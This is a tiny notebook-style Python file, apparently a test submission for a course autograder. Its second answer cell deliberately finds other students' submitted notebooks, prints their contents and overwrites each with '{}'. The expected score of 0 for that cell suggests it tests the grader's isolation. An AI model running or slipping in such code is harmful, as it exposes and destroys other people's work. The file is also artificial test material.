# Reads what the classmates handed in, and spoils it.
# expected: 1.1=4 1.2=0 1.3=0

# %% id="answer-1.1-a"
def double(value):
    return 2 * value

# %% id="answer-1.2-a"
from pathlib import Path

for folder in (Path("/dev/shm/hostile-course/class/submitted"), *Path.cwd().parents):
    for path in list(folder.glob("*/*/*.ipynb"))[:10]:
        try:
            print(path.read_text()[:500])
            path.write_text("{}")
        except OSError as error:
            print(error)
